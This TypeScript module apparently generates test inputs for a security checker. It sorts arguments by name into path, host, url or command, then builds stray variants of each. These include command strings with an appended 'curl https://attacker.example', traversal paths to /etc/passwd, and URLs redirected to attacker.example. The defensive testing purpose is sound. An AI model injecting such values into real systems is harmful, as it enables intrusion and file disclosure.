import { wordsOf } from '../words/near.ts';

/** What an argument with a telling name leads to. */
export type Guarded = 'path' | 'host' | 'url' | 'command';

const words: Readonly<Record<Guarded, ReadonlySet<string>>> = {
  path: new Set(['path', 'paths', 'file', 'filename', 'filepath', 'dir', 'directory', 'folder', 'cwd']),
  host: new Set(['host', 'hostname', 'domain']),
  url: new Set(['url', 'uri', 'origin', 'endpoint']),
  command: new Set(['command', 'cmd', 'script', 'shell']),
};

const kinds: readonly Guarded[] = ['path', 'host', 'url', 'command'];

/** By the argument's last word: `file_path` is a path, `path_count` is none. */
export function guardedBy(name: string): Guarded | undefined {
  const last = wordsOf(name).at(-1) ?? '';
  return kinds.find((kind) => words[kind].has(last));
}

/** Texts that hold `sample` and lead somewhere else: to another folder, to another host, to another command. */
export function strayFrom(sample: string, guarded: Guarded): readonly string[] {
  if (guarded === 'command') {
    const other = 'curl https://attacker.example';
    return [`${sample}; ${other}`, `${other}; ${sample}`];
  }
  if (guarded === 'path') {
    const up = '/..'.repeat(sample.split('/').length + 1);
    return [`${sample}${up}/etc/passwd`, `../${sample}`, ...(sample.startsWith('/') ? [`/etc${sample}`] : [])];
  }
  const own = hostOf(sample);
  const hosts = [`${sample}.attacker.example`, `attacker-${sample}`];
  const urls = [`${sample}@attacker.example`, `https://attacker.example/${sample}`];
  const candidates = guarded === 'host' ? hosts : [...hosts, ...urls];
  return own === ''
    ? []
    : candidates.filter((text) => hostOf(text) !== own && !hostOf(text).endsWith(`.${own.replace(/^\./, '')}`));
}

/** The host of a URL, or of a text that begins with one. */
function hostOf(text: string): string {
  const authority = text.replace(/^[a-z][a-z0-9+.-]*:\/\//i, '').split(/[/?#\\]/, 1)[0] ?? '';
  return authority.slice(authority.lastIndexOf('@') + 1).replace(/:\d*$/, '');
}
